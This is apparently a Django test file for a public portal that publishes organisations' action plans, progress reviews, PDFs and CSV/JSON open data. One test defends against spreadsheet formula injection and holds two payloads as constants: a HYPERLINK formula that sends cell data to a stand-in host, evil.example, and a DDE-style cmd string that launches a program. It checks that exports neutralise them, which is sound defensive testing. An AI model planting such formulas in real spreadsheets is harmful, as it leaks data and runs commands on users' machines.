def test_the_accessibility_statement_says_conformance_testing_and_how_to_report(client, db):
    text = text_of(client.get(reverse("publications:accessibility")))
    assert (
        "partially compliant with the Web Content Accessibility Guidelines version 2.2 AA" in text
    )
    assert "How we tested this portal" in text
    assert "Feedback and reporting a problem" in text
    assert "Enforcement procedure" in text


def test_the_home_page_and_every_page_link_the_directory_and_statement(client, db):
    html = client.get(reverse("home")).content.decode()
    assert html.count('href="/directory/"') == 2  # the header and the home page's own text
    assert 'href="/accessibility/"' in html
    assert 'href="/open-data/"' in html


def pdf_text(client, url: str) -> str:
    response = client.get(url, follow=True)
    assert response["Content-Type"] == "application/pdf"
    data = b"".join(response.streaming_content)
    return body_text(data)


def test_each_document_page_links_its_pdf(client, everything):
    for key in ("plan", "review", "assessment"):
        publication = everything[key]
        html = client.get(publication.get_absolute_url()).content.decode()
        publication.refresh_from_db()
        pdf = reverse(
            "publications:pdf_file",
            kwargs={"slug": "aldermoor", "pk": publication.pk, "token": publication.pdf_token},
        )
        assert f'href="{pdf}">Download the PDF</a>' in html


def test_no_draft_or_withdrawn_text_in_any_published_pdf(client, everything):
    slug = "aldermoor"
    # A phrase each PDF does hold, to show that its text was read at all.
    shown = {
        "plan": "Pay professional registration fees",
        "review": "Pay professional registration fees",
        "assessment": "Leo Arden",
    }
    for key, phrase in shown.items():
        url = reverse("publications:pdf", kwargs={"slug": slug, "pk": everything[key].pk})
        text = pdf_text(client, url)
        assert phrase in text
        assert DRAFT_ACTION not in text
        assert REVIEWER_NOTE not in text
        assert WITHDRAWN_ACTION not in text


def test_no_signers_email_in_the_published_self_assessment_pdf(client, everything):
    url = reverse(
        "publications:pdf", kwargs={"slug": "aldermoor", "pk": everything["assessment"].pk}
    )
    text = pdf_text(client, url)
    assert [email for email in SIGNER_EMAILS if email in text] == []


def test_sector_staff_see_the_directory_named_apart_from_their_sector_overview(client, reviewer):
    anonymous = client.get(reverse("publications:accessibility")).content.decode()
    assert (
        '<a class="nav-link text-nowrap" href="/directory/">Signatories directory</a>' in anonymous
    )
    client.force_login(reviewer)
    staff = client.get(reverse("publications:accessibility")).content.decode()
    assert '<a class="nav-link text-nowrap" href="/directory/">Public directory</a>' in staff
    assert '<a class="nav-link text-nowrap" href="/signatories/">Signatories</a>' in staff


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_open_data_csv_cells_never_start_a_formula(client, aldermoor, plan, lead_of_org_a):
    """Issue 11, item 2: the public's spreadsheet must not run what an organisation typed."""
    Organisation.objects.filter(pk=aldermoor.pk).update(
        name=FORMULA, short_name=AT_FORMULA, contact_name="+44 1234", webpage="-1"
    )
    plan.actions.filter(title="Count technicians in every department").update(
        title=FORMULA, description=AT_FORMULA, success_criteria="-1+1", comment="+1+1"
    )
    publication = services.publish_plan(plan, by=lead_of_org_a)
    plan_csv = reverse("publications:plan_csv", kwargs={"slug": "aldermoor", "pk": publication.pk})

    signatories = list(
        csv.DictReader(io.StringIO(fetch(client, reverse("publications:signatories_csv"))[1]))
    )
    actions = list(csv.DictReader(io.StringIO(fetch(client, plan_csv)[1])))

    cells = [value for row in signatories + actions for value in row.values()]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    aldermoor_row = next(row for row in signatories if row["slug"] == "aldermoor")
    assert [aldermoor_row[k] for k in ("name", "short_name", "contact_name", "webpage")] == [
        "'" + FORMULA,
        "'" + AT_FORMULA,
        "'+44 1234",
        "'-1",
    ]
    counted = next(row for row in actions if row["action"] == "'" + FORMULA)
    assert [counted[k] for k in ("description", "success_criteria", "comment")] == [
        "'" + AT_FORMULA,
        "'-1+1",
        "'+1+1",
    ]


def test_head_answers_wherever_get_does(client, everything):
    """Issue 11, item 7: monitors and link checkers ask with HEAD; they get what GET would say."""
    slug = everything["plan"].organisation.slug
    plan = {"slug": slug, "pk": everything["plan"].pk}
    urls = [
        reverse("healthz"),
        reverse("publications:open_data"),
        reverse("publications:signatories_csv"),
        reverse("publications:signatories_json"),
        reverse("publications:plan_csv", kwargs=plan),
        reverse("publications:plan_json", kwargs=plan),
        # A ready PDF's own address (the stable one sends on to it).
        *(
            Publication.objects.get(pk=everything[key].pk).pdf_url()
            for key in ("plan", "review", "assessment")
        ),
    ]

    def answer(response) -> tuple[int, str, bytes]:
        # Reading a streamed body to its end closes the response, as the test client arranges.
        body = b"".join(response.streaming_content) if response.streaming else response.content
        return response.status_code, response["Content-Type"], body

    answers = {url: answer(client.head(url)) for url in urls}
    expected = {url: (200, answer(client.get(url))[1], b"") for url in urls}
    assert answers == expected


def test_the_progress_reviews_open_data_has_every_published_reviews_actions(
    client, published_review, draft_plan
):
    response = client.get(reverse("publications:progress_reviews_csv"))
    assert response["Content-Disposition"] == 'attachment; filename="progress-reviews.csv"'
    assert response["Link"] == f'<{OGL}>; rel="license"'
    assert response.content.startswith(b"\xef\xbb\xbforganisation,organisation_slug,")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    page_url = f"http://testserver/directory/aldermoor/documents/{published_review.pk}/"
    assert [(r["action"], r["status"], r["status_label"], r["comment"]) for r in rows] == [
        ("Name technicians as authors on research outputs", "green", "On track", ""),
        ("Celebrate technician achievements at an annual event", "green", "On track", ""),
        (
            "Count technicians in every department",
            "red",
            "Delayed",
            "Waiting for the new HR system.",
        ),
        ("Pay professional registration fees", "complete", "Completed", ""),
    ]
    assert {
        (r["organisation_slug"], r["reviewed_on"], r["period_from"], r["period_to"]) for r in rows
    } == {("aldermoor", "2027-06-30", "2026-12-01", "2027-05-31")}
    assert {(r["overall_status"], r["overall_label"], r["page_url"]) for r in rows} == {
        ("green", "On track", page_url)
    }
    assert DRAFT_ACTION not in response.content.decode()

    data = client.get(reverse("publications:progress_reviews_json")).json()
    assert data["count"] == 1
    assert data["licence"] == {"name": "Open Government Licence v3.0", "url": OGL}
    review = data["progress_reviews"][0]
    assert review["summary"] == "Good progress on visibility."
    assert review["page_url"] == page_url
    assert [e["action"] for e in review["entries"]] == [r["action"] for r in rows]


def test_a_withdrawn_progress_review_leaves_the_open_data(client, published_review, lead_of_org_a):
    services.withdraw(published_review, by=lead_of_org_a, reason="Wrong period.")
    assert client.get(reverse("publications:progress_reviews_json")).json()["count"] == 0
    body = client.get(reverse("publications:progress_reviews_csv")).content.decode("utf-8-sig")
    assert body.splitlines()[1:] == []
